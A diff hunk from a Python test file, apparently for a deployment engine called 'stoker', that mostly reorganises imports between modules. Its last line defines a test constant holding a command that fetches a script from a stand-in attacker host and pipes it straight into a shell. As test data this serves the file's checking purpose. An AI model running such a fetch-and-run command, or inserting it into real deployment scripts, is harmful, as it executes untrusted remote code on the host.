@@ -11,17 +11,17 @@ from typing import Any
 
 import pytest
 
-from stoker.base.clock import SystemClock
+from openstack_emulator.services import new_cloud
+from openstack_emulator.testing import ServedCloud
 from stoker.base.context import RequestContext
 from stoker.base.errors import BadValue, EntityNotFound
 from stoker.base.ids import new_id
 from stoker.cloud.credentials import TokenCredential
-from stoker.emulator.services import new_cloud
-from stoker.emulator.testing import ServedCloud
 from stoker.engine.settings import EngineSettings
 from stoker.store import queries
 from stoker.store.journal import Batch
 from stoker.store.records import SoftwareDeployment
+from stoker_foundation.clock import SystemClock
 from tests.harness import World
 
 SCRIPT = "curl http://mallory.example.com/ | sh"
